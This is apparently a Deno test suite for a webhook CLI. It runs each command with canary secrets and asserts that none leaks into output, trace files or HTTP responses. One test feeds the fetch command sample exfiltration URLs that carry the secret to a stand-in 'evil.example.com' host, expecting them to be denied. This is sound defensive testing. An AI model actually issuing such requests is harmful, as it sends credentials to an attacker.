/**
 * The canary test: the whole CLI surface runs with a random canary as its secrets, and
 * the canary must occur in no stdout, no stderr, no trace file and no HTTP response body.
 * Every command is a real subprocess (tests/support/cli.ts) with a clean environment.
 */
import assert from "node:assert/strict";
import { createHmac } from "node:crypto";
import { runCli } from "../support/cli.ts";
import { closedPort, startRecordingServer } from "../support/recording_server.ts";
import { startServe } from "../support/serve_process.ts";
import { git, tempRepo } from "../support/temp_repo.ts";
import {
  assertNoCanary,
  assertResultClean,
  CANARY,
  canaryDir,
  deliveries,
  ENV,
  filesUnder,
  PREVIOUS_CANARY,
  ROUTE_CANARY,
  runBounded,
  SHORT_CANARY,
  textUntilClosed,
  TOKEN_CANARY,
  tomorrow,
} from "../support/canary.ts";

Deno.test("canary: serve answers good, forged, stale and malformed requests without leaking", async () => {
  await using dir = await canaryDir();
  const cwd = dir.path;
  const server = await startServe({
    env: { ...ENV, WEBHOOK_SECRET_PREVIOUS: `${PREVIOUS_CANARY}@${tomorrow()}` },
    cwd,
    args: [
      "--route",
      "/webhook=hookgate:WEBHOOK_SECRET",
      "--route",
      "/github=github:GITHUB_WEBHOOK_SECRET",
    ],
  });
  const bodies: string[] = [];
  try {
    for (const exchange of deliveries()) {
      const response = await fetch(`${server.url}${exchange.path ?? "/webhook"}`, exchange.init);
      const text = await textUntilClosed(response);
      bodies.push(`${exchange.label}: ${response.status} ${text}`);
      assertNoCanary(`serve response to ${exchange.label}`, text);
      assertNoCanary(`serve response headers to ${exchange.label}`, [...response.headers].join());
    }
    const githubBody = '{"zen":"ok"}';
    const github = await fetch(`${server.url}/github`, {
      method: "POST",
      body: githubBody,
      headers: {
        "x-github-delivery": "canary-delivery",
        "x-hub-signature-256": "sha256=" +
          createHmac("sha256", ROUTE_CANARY).update(githubBody).digest("hex"),
      },
    });
    const githubText = await github.text();
    bodies.push(`github: ${github.status} ${githubText}`);
    assertNoCanary("serve response on the github route", githubText);
  } finally {
    const code = await server.stop();
    assert.equal(code, 0, server.stderr());
  }
  assertNoCanary("serve stdout", server.stdout());
  assertNoCanary("serve stderr", server.stderr());
  for (const [path, text] of await filesUnder(cwd)) assertNoCanary(`trace file ${path}`, text);
  // The test must have exercised the accepting path, or it proves little.
  for (
    const accepted of [
      "good: 200",
      "good, signed with the previous (rotated) secret: 200",
      "github: 200",
    ]
  ) {
    assert.ok(bodies.some((line) => line.startsWith(accepted)), bodies.join("\n"));
  }
});

Deno.test("canary: send (accepted, refused, unreachable) leaks nothing", async () => {
  await using dir = await canaryDir();
  const cwd = dir.path;
  const server = await startServe({ env: ENV, cwd });
  const recorder = startRecordingServer(() =>
    new Response(`{"error":"nope"}`, {
      status: 500,
      headers: { "content-type": "application/json" },
    })
  );
  try {
    // Each run with whether send must succeed: a run that fails for another reason proves nothing.
    const runs: [string, boolean, string[]][] = [
      ["accepted", true, ["send", `${server.url}/webhook`, "--data", '{"event":"push"}']],
      ["a payload holding the canary", true, [
        "send",
        `${server.url}/webhook`,
        "--data",
        JSON.stringify({ note: CANARY }),
      ]],
      ["refused 500 with retries", false, ["send", recorder.url, "--data", "{}", "--retries", "1"]],
      ["unreachable", false, [
        "send",
        `http://127.0.0.1:${closedPort()}/webhook`,
        "--data",
        "{}",
        "--retries",
        "0",
      ]],
      ["a URL with the canary as password", false, [
        "send",
        `http://u:${CANARY}@127.0.0.1:${closedPort()}/?token=${CANARY}`,
        "--data",
        "{}",
        "--retries",
        "0",
      ]],
      ["not a JSON object", false, ["send", `${server.url}/webhook`, "--data", "[1]"]],
    ];
    for (const [label, succeeds, args] of runs) {
      const result = await runCli(args, { env: ENV, cwd });
      assertResultClean(`send ${label}`, result);
      assert.equal(result.code === 0, succeeds, `send ${label}: exit ${result.code}`);
    }
    const secretInRecorder = recorder.requests.some((request) =>
      new TextDecoder().decode(request.body).includes(CANARY) ||
      [...request.headers].join().includes(CANARY)
    );
    assert.equal(secretInRecorder, false, "send put the secret itself on the wire");
  } finally {
    await recorder.close();
    await server.stop();
  }
  assertNoCanary("serve stdout", server.stdout());
  for (const [path, text] of await filesUnder(cwd)) assertNoCanary(`trace file ${path}`, text);
});

Deno.test("canary: a denied and a failed fetch leak nothing", async () => {
  await using dir = await canaryDir();
  const cwd = dir.path;
  const port = closedPort();
  const env = {
    ...ENV,
    EGRESS_ALLOW_HOSTS: `api.github.com,http://localhost:${port}`,
    EGRESS_ALLOW_PRIVATE: "localhost",
  };
  const runs: [string, string[]][] = [
    ["denied host", ["fetch", `https://evil.example.com/steal?token=${CANARY}`]],
    ["denied userinfo", ["fetch", `https://api.github.com:${CANARY}@evil.example.com/`]],
    ["denied, dry run", ["fetch", "--dry-run", `https://evil.example.com/?secret=${CANARY}`]],
    ["failed (connection refused)", ["fetch", `http://localhost:${port}/x?api_key=${CANARY}`]],
    ["failed, JSON result", ["fetch", "--json", `http://localhost:${port}/?sig=${CANARY}`]],
  ];
  for (const [label, args] of runs) {
    const result = await runCli(args, { env, cwd });
    assert.notEqual(result.code, 0, `fetch ${label} should not succeed`);
    assertResultClean(`fetch ${label}`, result);
  }
  for (const [path, text] of await filesUnder(cwd)) assertNoCanary(`trace file ${path}`, text);
});

Deno.test("canary: init and doctor leak neither the old secrets nor the new ones", async () => {
  await using repoDir = await tempRepo();
  const repo = repoDir.path;
  Deno.writeTextFileSync(`${repo}/.env`, `HOOKGATE_TOKEN_SECRET=${TOKEN_CANARY}\n`, {
    mode: 0o600,
  });
  const init = await runCli(["init"], { cwd: repo });
  assertResultClean("init", init);
  const envFile = Deno.readTextFileSync(`${repo}/.env`);
  const fresh = /^WEBHOOK_SECRET=(.+)$/m.exec(envFile)?.[1];
  assert.ok(fresh !== undefined && fresh.length >= 32, envFile.replaceAll(TOKEN_CANARY, "…"));
  for (const text of [init.stdout, init.stderr]) {
    assert.ok(!text.includes(fresh), "init printed the new secret");
  }

  const again = await runCli(["init"], { cwd: repo });
  assertResultClean("init, second run", again);
  const doctor = await runCli(["doctor"], { cwd: repo, env: { WEBHOOK_SECRET: CANARY } });
  assertResultClean("doctor", doctor);
  for (const text of [doctor.stdout, doctor.stderr]) assert.ok(!text.includes(fresh));

  // A tracked .env: init refuses (78), doctor fails; neither prints the value.
  await git(repo, "add", "-f", ".env");
  await git(repo, "commit", "--quiet", "-m", "oops");
  const tracked = await runCli(["init"], { cwd: repo });
  assert.equal(tracked.code, 78, tracked.stderr);
  assertResultClean("init with a tracked .env", tracked);
  const doctorTracked = await runCli(["doctor"], { cwd: repo });
  assertResultClean("doctor with a tracked .env", doctorTracked);
  for (const text of [tracked.stdout, tracked.stderr, doctorTracked.stdout, doctorTracked.stderr]) {
    assert.ok(!text.includes(fresh));
  }

  await using placeholderDir = await canaryDir();
  const placeholder = placeholderDir.path;
  Deno.writeTextFileSync(`${placeholder}/.env`, `WEBHOOK_SECRET=${SHORT_CANARY}\n`, {
    mode: 0o644,
  });
  const weak = await runCli(["doctor"], { cwd: placeholder });
  assert.equal(weak.code, 78);
  assertResultClean("doctor with a short secret", weak);
});

Deno.test("canary: every configuration error names the variable, never the value", async () => {
  await using dir = await canaryDir();
  const cwd = dir.path;
  const runs: [string, string[], Record<string, string>][] = [
    ["serve, short secret", ["serve", "--port", "0"], { WEBHOOK_SECRET: SHORT_CANARY }],
    ["serve, no secret", ["serve", "--port", "0"], { HOOKGATE_TOKEN_SECRET: TOKEN_CANARY }],
    ["serve, store URL with a password", ["serve", "--port", "0"], {
      ...ENV,
      HOOKGATE_STORE: `redis://:${CANARY}@127.0.0.1:${closedPort()}/0`,
    }],
    ["serve, bad --store flag with a password", [
      "serve",
      "--port",
      "0",
      "--store",
      `redis://user:${CANARY}@/`,
    ], ENV],
    ["serve, route with a missing variable", [
      "serve",
      "--port",
      "0",
      "--route",
      "/x=github:NO_SUCH_SECRET",
    ], ENV],
    ["serve, route with a short secret", [
      "serve",
      "--port",
      "0",
      "--route",
      "/x=github:SHORT_WEBHOOK_SECRET",
    ], { ...ENV, SHORT_WEBHOOK_SECRET: SHORT_CANARY }],
    ["serve, bad HOOKGATE_ROUTES", ["serve", "--port", "0"], {
      ...ENV,
      HOOKGATE_ROUTES: `nonsense-${CANARY}`,
    }],
    ["send, short secret", ["send", "http://127.0.0.1:9/", "--data", "{}"], {
      WEBHOOK_SECRET: SHORT_CANARY,
    }],
    ["send, no secret", ["send", "http://127.0.0.1:9/", "--data", "{}"], {}],
    ["fetch, bad allowlist", ["fetch", "https://api.github.com/"], {
      ...ENV,
      EGRESS_ALLOW_HOSTS: `http://u:${CANARY}@api.github.com`,
    }],
    ["token, no token secret", ["token", "--scope", "read"], { WEBHOOK_SECRET: CANARY }],
    ["token, token secret equal to the webhook secret", ["token", "--scope", "read"], {
      WEBHOOK_SECRET: CANARY,
      HOOKGATE_TOKEN_SECRET: CANARY,
    }],
    ["token, short token secret", ["token", "--scope", "read"], {
      HOOKGATE_TOKEN_SECRET: SHORT_CANARY,
    }],
  ];
  for (const [label, args, env] of runs) {
    const result = await runBounded(args, { env, cwd });
    // 78 configuration, 64 usage, 69 an unreachable store: refused at start-up, never a crash (70).
    assert.ok(
      [64, 69, 78].includes(result.code),
      `${label}: exit ${result.code}\n${result.stderr}`,
    );
    assertResultClean(label, result);
  }
  // With the secret in .env instead of the environment.
  Deno.writeTextFileSync(`${cwd}/.env`, `WEBHOOK_SECRET=${SHORT_CANARY}\n`);
  assertResultClean(
    ".env short secret",
    await runBounded(["serve", "--port", "0"], { cwd, env: {} }),
  );
});

Deno.test("canary: usage errors, help and version leak nothing", async () => {
  const runs = [
    ["serve", "--port", CANARY],
    ["send", "--bogus", CANARY],
    ["fetch"],
    ["redact", CANARY],
    ["nonsense-command", CANARY],
    ["--help"],
    ["--version"],
    ...["serve", "send", "fetch", "redact", "init", "doctor", "token"].map((
      name,
    ) => [name, "--help"]),
  ];
  for (const args of runs) assertResultClean(args.join(" "), await runCli(args, { env: ENV }));
});

Deno.test("canary: redact --secrets-from-env and token leak nothing", async () => {
  const redact = await runCli(["redact", "--secrets-from-env"], {
    env: ENV,
    stdin: `WEBHOOK_SECRET=${CANARY}\nplain ${CANARY} ${TOKEN_CANARY} ${
      encodeURIComponent(ROUTE_CANARY)
    }\n`,
  });
  assert.equal(redact.code, 0, redact.stderr);
  assertResultClean("redact --secrets-from-env", redact);
  const token = await runCli(["token", "--scope", "read"], { env: ENV });
  assert.equal(token.code, 0, token.stderr);
  assertResultClean("token", token);
});

Deno.test("canary: rotate prints neither the old secret nor the new one", async () => {
  await using dir = await canaryDir();
  const cwd = dir.path;
  Deno.writeTextFileSync(
    `${cwd}/.env`,
    `WEBHOOK_SECRET=${CANARY}\nGITHUB_WEBHOOK_SECRET=${ROUTE_CANARY}\n`,
    { mode: 0o600 },
  );
  const outputs: string[] = [];
  for (const args of [["rotate"], ["rotate"], ["rotate", "--var", "GITHUB_WEBHOOK_SECRET"]]) {
    const result = await runCli(args, { cwd });
    assert.equal(result.code, 0, result.stderr);
    assertResultClean(args.join(" "), result);
    outputs.push(result.stdout, result.stderr);
  }
  // The secrets rotate wrote (current and previous) appear in no output either.
  const env = Deno.readTextFileSync(`${cwd}/.env`);
  const written = [...env.matchAll(/^[A-Z_]+=(.*)$/gm)].flatMap((m) =>
    (m[1] as string).split(",").map((entry) => entry.replace(/@[0-9TZ:.-]+$/, ""))
  ).filter((value) => value.length >= 16);
  assert.ok(written.length >= 4, "rotate wrote new secrets");
  for (const secret of written) {
    for (const text of outputs) assert.ok(!text.includes(secret), "rotate printed a secret");
  }
  const bad = await runCli(["rotate", "--var", "NO_SUCH_SECRET"], { cwd });
  assertResultClean("rotate of a missing variable", bad);
});
